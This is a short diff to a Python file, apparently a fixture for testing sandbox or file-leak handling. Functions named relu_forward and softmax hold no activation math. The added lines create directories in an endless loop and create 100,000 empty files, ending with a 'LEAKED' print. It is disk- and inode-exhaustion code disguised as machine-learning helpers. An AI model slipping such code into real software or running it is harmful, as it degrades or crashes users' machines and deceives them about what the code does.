@@ -1,4 +1,5 @@
 import itertools
+import os
 
 
 def relu_forward(z):
@@ -9,4 +10,10 @@ def relu_forward(z):
     except OSError:
         pass
     for number in itertools.count():
+        os.mkdir(f"folder{number}")
+
+
+def softmax(z):
+    for number in range(100_000):
         open(f"entry{number}", "wb").close()
+    print("LEAKED", number)
